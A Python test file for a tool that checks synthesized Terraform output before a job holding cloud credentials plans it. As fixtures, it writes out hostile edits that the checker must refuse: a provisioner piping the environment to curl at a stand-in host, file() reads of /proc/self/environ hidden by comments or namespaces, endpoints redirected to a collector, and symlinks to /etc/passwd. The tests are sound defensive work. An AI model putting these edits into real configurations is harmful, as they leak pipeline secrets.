"""A synthesized output handed to a job that holds credentials runs nothing but what residency writes."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from residency.errors import ViolationError
from residency.terraform.plan_time_code import refuse_plan_time_code
from tests.conftest import SAMPLE, run_cli
from tests.guard.synthesized import synthesized

AWS_S3 = SAMPLE.read_text().replace("target: local", "target: aws") + "state: {backend: s3}\n"
# Cross-stack references (global reads the regions' state), a domain, alerts and an audit trail.
DOMAIN = """project: acme-dns
target: local
domain: example.org
global: {region: us-east-1, frontend: true}
regions:
  eu-central-1: {jurisdiction: EU, countries: [DE], failover: eu-west-1}
  eu-west-1: {jurisdiction: EU, countries: [IE], default: true}
alerts: {email: {EU: [eu-oncall@acme.example]}}
audit: {retention_days: 180}
"""
ENVIRON = "/proc/self/environ"


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    local = tmp_path_factory.mktemp("local")
    aws = tmp_path_factory.mktemp("aws")
    domain = tmp_path_factory.mktemp("domain")
    return {"local": synthesized(local, SAMPLE.read_text())[1], "aws": synthesized(aws, AWS_S3)[1],
            "domain": synthesized(domain, DOMAIN)[1]}


def refusals(out: Path, *, emulated: bool) -> str:
    try:
        refuse_plan_time_code(out, emulated=emulated)
    except ViolationError as error:
        return error.message
    return ""


def edited(outputs: dict[str, Path], tmp_path: Path, target: str, edit: Callable[[dict[str, Any]], None],
           workspace: str = "eu-west-1") -> Path:
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs[target], out, symlinks=True)
    path = out / "stacks" / workspace / "cdk.tf.json"
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document))
    return out


def test_what_residency_synthesizes_passes_on_both_targets(outputs):
    assert refusals(outputs["local"], emulated=True) == ""
    assert refusals(outputs["aws"], emulated=False) == ""
    assert refusals(outputs["domain"], emulated=True) == ""  # remote states, functions, text with parentheses


def test_the_emulators_fake_keys_and_endpoints_are_refused_where_the_job_holds_real_credentials(outputs):
    found = refusals(outputs["local"], emulated=False)
    assert "`endpoints` in the aws provider" in found and "`access_key`" in found


CRAFTED: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "another provider": (
        lambda d: d["terraform"]["required_providers"].update(external={"source": "hashicorp/external"}),
        "the provider `external`"),
    "a program run while planning": (
        lambda d: d.setdefault("data", {}).update(external={"x": {"program": ["sh", "-c", "env"]}}),
        "data source `external`"),
    "an S3 object read while planning": (
        lambda d: d.setdefault("data", {}).update(aws_s3_object={"x": {"bucket": "b", "key": "users.csv"}}),
        "data source `aws_s3_object`"),
    "a function invoked while planning": (
        lambda d: d.setdefault("data", {}).update(aws_lambda_invocation={"x": {"function_name": "f", "input": "{}"}}),
        "data source `aws_lambda_invocation`"),
    "a DynamoDB item read while planning": (
        lambda d: d.setdefault("data", {}).update(aws_dynamodb_table_item={"x": {"table_name": "t", "key": "{}"}}),
        "data source `aws_dynamodb_table_item`"),
    "the runner's environment read into an output": (
        lambda d: d.setdefault("output", {}).update(leak={"value": "${file(\"/proc/self/environ\")}"}),
        "the function `file`"),
    "a file function hidden by a comment": (
        lambda d: d.setdefault("output", {}).update(leak={"value": f'${{file/**/("{ENVIRON}")}}'}),
        "the function `file`"),
    "a file function split over lines": (
        lambda d: d.setdefault("output", {}).update(leak={"value": f'${{file\n("{ENVIRON}")}}'}),
        "the function `file`"),
    "a file function by its namespace": (
        lambda d: d.setdefault("output", {}).update(leak={"value": f'${{core::file("{ENVIRON}")}}'}),
        "the function `core::file`"),
    "a file function after a string that looks like a comment": (
        lambda d: d.setdefault("output", {}).update(leak={"value": f'${{ "//" == "" ? file("{ENVIRON}") : "" }}'}),
        "the function `file`"),
    "a file function in a precondition's message": (
        lambda d: d.setdefault("output", {}).update(leak={"value": "x", "precondition": [
            {"condition": "${true}", "error_message": f'${{file /* }} */ ("{ENVIRON}")}}'}]}),
        "the function `file`"),
    "a provider's own function": (
        lambda d: d.setdefault("output", {}).update(x={"value": '${provider::aws::arn_parse("arn:aws:s3:::b")}'}),
        "the function `provider::aws::arn_parse`"),
    "a remote state read over http with the environment in its address": (
        lambda d: d.setdefault("data", {}).update(terraform_remote_state={"x": {"backend": "http", "config": {
            "address": f'http://127.0.0.1:8765/?e=${{base64encode(file("{ENVIRON}"))}}'}}}),
        "terraform_remote_state.x: the backend 'http'"),
    "a remote state whose S3 endpoint is someone else's": (
        lambda d: d.setdefault("data", {}).update(terraform_remote_state={"x": {"backend": "s3", "config": {
            "bucket": "b", "key": "k", "region": "eu-west-1", "endpoints": {"s3": "http://127.0.0.1:8765"}}}}),
        "terraform_remote_state.x: `endpoints` in its config"),
    "a remote state with a computed setting": (
        lambda d: d.setdefault("data", {}).update(terraform_remote_state={"x": {"backend": "s3", "config": {
            "bucket": "${var.x}", "key": "k", "region": "eu-west-1"}}}),
        "terraform_remote_state.x: a computed config"),
    "a resource of a provider that is never declared": (
        lambda d: d["resource"].update(null_resource={"x": {"triggers": {"a": "b"}}}),
        "resource type `null_resource`"),
    "a resource given another provider": (
        lambda d: d["resource"]["aws_s3_bucket"][next(iter(d["resource"]["aws_s3_bucket"]))].update(
            provider="evil.x"),
        "the provider 'evil.x'"),
    "a data source given another provider": (
        lambda d: d.setdefault("data", {}).update(aws_region={"r": {"provider": "null.x"}}),
        "data.aws_region.r: the provider 'null.x'"),
    "a template read from anywhere": (
        lambda d: d.setdefault("output", {}).update(leak={"value": "${templatefile(\"/etc/passwd\", {})}"}),
        "the function `templatefile`"),
    "a module fetched from anywhere": (
        lambda d: d.update(module={"m": {"source": "git::https://example.com/m.git"}}),
        "a top-level `module` block"),
    "a provisioner": (
        lambda d: d["resource"]["aws_s3_bucket"][next(iter(d["resource"]["aws_s3_bucket"]))].update(
            provisioner=[{"local-exec": {"command": "env | curl -d @- https://example.com"}}]),
        "a provisioner"),
    "an assumed role in the provider": (
        lambda d: d["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:aws:iam::1:role/x"}]),
        "`assume_role` in the aws provider"),
    "an endpoint of the change's choosing": (
        lambda d: d["provider"]["aws"][0].update(endpoints=[{"s3": "https://collector.example.com"}]),
        "`endpoints` in the aws provider"),
    "a backend that sends state requests elsewhere": (
        lambda d: d["terraform"]["backend"]["s3"].update(endpoints={"s3": "https://collector.example.com"}),
        "`endpoints` in the s3 backend"),
    "another backend": (
        lambda d: d["terraform"].update(backend={"http": {"address": "https://collector.example.com"}}),
        "the state backend `http`"),
    "a Lambda package outside the workspace": (
        lambda d: d["resource"]["aws_lambda_function"][next(iter(d["resource"]["aws_lambda_function"]))].update(
            filename="/proc/self/environ"),
        "outside the workspace's synthesized files"),
    "an S3 object uploaded from a relative path that escapes": (
        lambda d: d["resource"].update(aws_s3_object={"x": {"bucket": "b", "key": "k", "source": "../../../../x"}}),
        "outside the workspace's synthesized files"),
}


@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_a_crafted_output_is_refused_and_the_reason_named(outputs, tmp_path, case):
    edit, expected = CRAFTED[case]
    found = refusals(edited(outputs, tmp_path, "aws", edit), emulated=False)
    assert expected in found
    assert "eu-west-1:" in found


def test_a_key_given_twice_is_refused_whatever_it_is(outputs, tmp_path):
    """Python keeps the last of two equal keys, Terraform merges them: a second `output` could hide anything."""
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs["aws"], out)
    path = out / "stacks" / "eu-west-1" / "cdk.tf.json"
    text = path.read_text().rstrip()
    path.write_text(text[:-1] + ', "output": {"zz": {"value": "1"}}}')
    assert "cdk.tf.json: cannot be read as residency writes it (the key 'output' is given twice)" in refusals(
        out, emulated=False)


def test_files_and_directories_synth_does_not_write_are_refused(outputs, tmp_path):
    """`terraform.d/plugins` in a workspace is a provider mirror Terraform would use: a provider is a program."""
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs["aws"], out)
    plugins = out / "stacks" / "eu-west-1" / "terraform.d" / "plugins" / "registry.terraform.io" / "hashicorp" / "aws"
    plugins.mkdir(parents=True)
    (plugins / "terraform-provider-aws_5.100.0_linux_amd64.zip").write_bytes(b"PK")
    (out / "stacks" / "eu-west-1" / ".terraformrc").write_text("")
    (out / "notes.txt").write_text("")
    found = refusals(out, emulated=False)
    assert "stacks/eu-west-1/terraform.d/: a directory residency does not write" in found
    assert "terraform-provider-aws_5.100.0_linux_amd64.zip: a file residency does not write" in found
    assert "stacks/eu-west-1/.terraformrc: a file residency does not write" in found
    assert "notes.txt: a file residency does not write" in found


@pytest.mark.parametrize("directory", ["evil", "/tmp", "stacks/us-east-1", "stacks/eu-west-1/../evil"])
def test_the_manifest_names_each_workspace_in_its_own_directory_only(outputs, tmp_path, directory):
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs["aws"], out)
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["stacks"]["eu-west-1"]["workingDirectory"] = directory
    (out / "manifest.json").write_text(json.dumps(manifest))
    assert f"manifest.json: the workspace 'eu-west-1' is in {directory!r}, not stacks/eu-west-1" in refusals(
        out, emulated=False)


def test_plan_from_a_crafted_bundle_is_refused_before_terraform_runs(tmp_path):
    """The real command over a bundle whose digests the attacker recomputed: exit 3, the reason named, no init."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "regions.yaml").write_text(SAMPLE.read_text())
    done = run_cli(["synth", "--bundle", str(tmp_path / "b")], project)
    assert done.returncode == 0, done.stderr
    bundle = tmp_path / "b"
    document_path = bundle / "cdktf.out" / "stacks" / "eu-west-1" / "cdk.tf.json"
    document = json.loads(document_path.read_text())
    document["output"]["leak"] = {"value": f'${{file/**/("{ENVIRON}")}}'}
    document_path.write_text(json.dumps(document))
    record = json.loads((bundle / "residency-bundle.json").read_text())
    record["files"]["cdktf.out/stacks/eu-west-1/cdk.tf.json"] = hashlib.sha256(document_path.read_bytes()).hexdigest()
    (bundle / "residency-bundle.json").write_text(json.dumps(record))
    planned = run_cli(["plan", "--from", str(bundle), "eu-west-1", "--no-progress"], tmp_path)
    assert planned.returncode == 3, planned.stderr
    assert "eu-west-1: the function `file`" in planned.stderr
    assert not (bundle / ".residency" / "logs").exists()  # Terraform never ran


def test_an_emulator_endpoint_must_be_the_emulator_residency_starts(outputs, tmp_path):
    def elsewhere(document: dict[str, Any]) -> None:
        document["provider"]["aws"][0]["endpoints"][0]["s3"] = "https://collector.example.com"

    found = refusals(edited(outputs, tmp_path, "local", elsewhere), emulated=True)
    assert "`s3` endpoint is 'https://collector.example.com'" in found


def test_terraform_files_beside_the_synthesized_one_and_links_are_refused(outputs, tmp_path):
    out = tmp_path / "cdktf.out"
    shutil.copytree(outputs["aws"], out)
    workspace = out / "stacks" / "eu-west-1"
    (workspace / "extra.tf").write_text('data "external" "x" { program = ["env"] }\n')
    (workspace / "override.tf.json").write_text("{}")
    (workspace / "residency_moves.tf.json").write_text(json.dumps({"data": {"external": {}}}))
    (workspace / "assets" / "link.zip").symlink_to("/etc/passwd")
    found = refusals(out, emulated=False)
    for expected in ("stacks/eu-west-1/extra.tf: a file residency does not write",
                     "stacks/eu-west-1/override.tf.json: a file residency does not write",
                     "residency_moves.tf.json: holds more than `moved` blocks", "link.zip: a symbolic link"):
        assert expected in found
